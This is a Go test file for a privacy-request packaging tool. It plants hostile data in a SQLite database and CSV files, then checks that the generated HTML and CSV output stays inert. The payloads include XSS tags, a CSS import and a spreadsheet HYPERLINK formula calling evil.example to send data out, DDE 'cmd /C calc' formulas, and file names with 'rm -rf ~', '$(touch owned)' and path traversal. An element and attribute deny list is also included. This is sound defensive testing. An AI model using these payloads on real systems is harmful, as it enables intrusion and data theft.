package main

import (
	"database/sql"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// attack would run if a page took it for HTML, or fetch something.
const attack = `<script>alert(1)</script>"><img src=x onerror=alert(2)></td></table></style><style>@import url(http://evil.example/x.css);</style>`

// TestHostileDataAreInert packs a person's data from a database and files whose names and values would act in a browser, a spreadsheet or a file system.
func TestHostileDataAreInert(t *testing.T) {
	t.Parallel()
	d := &desk{t: t, home: t.TempDir()}
	shop, files := writeHostile(t, d.home)
	record := filepath.Join(d.home, "register.yaml")
	if err := os.WriteFile(record, []byte(hostileRegister), 0o600); err != nil {
		t.Fatal(err)
	}
	d.run(complete, "", "scan", shop, files, "--quiet")
	d.run(complete, "anna.devos@example.org\n", "request", "open", "--type", "access", "--requester", attack, "--email", "-", "--country", "BE")
	d.run(complete, "", "request", "search", "R-2026-0001", "--quiet")
	dir, letter := filepath.Join(d.home, "out", "package"), filepath.Join(d.home, "letter.html")
	d.run(complete, "", "request", "package", "R-2026-0001", shop, files, "--register", record, "--out", dir)
	d.run(complete, "", "request", "letter", "R-2026-0001", "--register", record, "--kind", "reply", "--out", letter)
	inert(t, filepath.Join(dir, "index.html"))
	inert(t, letter)
	if n := inertFiles(t, dir); n != 6 {
		t.Errorf("%d files of CSV, want one of each table and file", n)
	}
	if all, err := os.ReadDir(filepath.Dir(dir)); err != nil || len(all) != 1 {
		t.Errorf("%d things lie beside the package (%v)", len(all)-1, err)
	}
}

const hostileRegister = `controller: {name: "K <script>alert(3)</script>", contact: "<img src=x onerror=alert(4)>"}
officer: {name: "</title><script>alert(5)</script>", contact: dpo@kolmeer.example}
authority: {name: GBA, contact: "javascript:alert(6)"}
activities:
  - {id: all, name: "<b onmouseover=alert(7)>Orders</b>", purpose: "<script>alert(8)</script>", basis: contract, people: [customers], data: [person_name, email],
     recipients: [], retention: {period: 10 years, from: the invoice}, source: you, automated: none, stores: [{store: "*"}, {store: "**"}], measures: [access]}
`

// writeHostile writes what is to be scanned.
func writeHostile(t *testing.T, home string) (shop, files string) {
	t.Helper()
	shop, files = filepath.Join(home, "shop <svg onload=alert(9)>.sqlite"), filepath.Join(home, "files")
	db, err := sql.Open("sqlite", shop)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	const table = `"../../etc/passwd'""><script>alert(10)</script>"`
	for _, do := range []struct {
		sql  string
		args []any
	}{
		{`CREATE TABLE customers (id INTEGER PRIMARY KEY, email TEXT, name TEXT, "<script>alert(11)</script>" TEXT, "=1+1" TEXT)`, nil},
		{`INSERT INTO customers VALUES (1, 'anna.devos@example.org', ?, 'javascript:alert(12)', '=HYPERLINK("http://evil.example/?"&A1)')`, []any{attack + "\x1b[2J\u202e"}},
		{`CREATE TABLE ` + table + ` (id INTEGER PRIMARY KEY, email TEXT, note TEXT)`, nil},
		{`INSERT INTO ` + table + ` VALUES (1, 'anna.devos@example.org', '@SUM(1+1)*cmd|'' /C calc''!A0')`, nil},
	} {
		if _, err := db.ExecContext(t.Context(), do.sql, do.args...); err != nil {
			t.Fatal(err)
		}
	}
	for _, name := range []string{"a;rm -rf ~.csv", `..\..\x.csv`, "<img src=x onerror=alert(13)>/$(touch owned).csv", "con.csv"} {
		path := filepath.Join(files, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte("id,email,note\n1,anna.devos@example.org,\"=cmd|' /C calc'!A0\"\n2,bob.peters@example.net,x\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return shop, files
}

// inert reads a page as a browser does: nothing in it runs, is fetched, or leads out of the package.
func inert(t *testing.T, path string) {
	t.Helper()
	words, styles := inertPage(t, path)
	if styles != 1 || !strings.Contains(words, "<script>alert(3)</script>") || strings.ContainsAny(words, "\x1b\u202e") {
		t.Errorf("%s: %d style sheets, want one; or a text does not stand as it is, visible", filepath.Base(path), styles)
	}
}

// inertPage returns a page's words, and how many style sheets it has.
func inertPage(t *testing.T, path string) (words string, styles int) {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	page, err := html.Parse(f)
	if err != nil {
		t.Fatal(err)
	}
	for n := range page.Descendants() {
		switch {
		case n.Type == html.TextNode:
			words += n.Data
		case n.Type != html.ElementNode:
		case n.Data == "style":
			styles++
		case slices.Contains([]string{"script", "img", "svg", "iframe", "object", "embed", "link", "base", "form", "input", "b"}, n.Data):
			t.Errorf("%s has an element %s", filepath.Base(path), n.Data)
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") || a.Key == "src" || a.Key == "style" || a.Key == "href" && !strings.HasPrefix(a.Val, "#") && !strings.HasPrefix(a.Val, "data/") && !strings.HasPrefix(a.Val, "attachments/") {
				t.Errorf("%s: an element %s has an attribute %s", filepath.Base(path), n.Data, a.Key)
			}
		}
	}
	return words, styles
}

// inertFiles looks at the names of a package's files and at the cells of its CSV, of which it returns the number of files.
func inertFiles(t *testing.T, dir string) (n int) {
	t.Helper()
	plain := regexp.MustCompile(`^[A-Za-z0-9_-][A-Za-z0-9._-]*$`)
	err := filepath.WalkDir(dir, func(path string, e fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if first, _, _ := strings.Cut(strings.ToLower(e.Name()), "."); !plain.MatchString(e.Name()) || first == "con" {
			t.Errorf("a file is called %q", e.Name())
		}
		if filepath.Ext(path) != ".csv" {
			return nil
		}
		n++
		f, err := os.Open(path)
		if err != nil {
			return err
		}
		defer f.Close()
		rows, err := csv.NewReader(f).ReadAll()
		for _, cell := range slices.Concat(rows...) {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				t.Errorf("a spreadsheet takes a cell of %s for a formula", e.Name())
			}
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return n
}
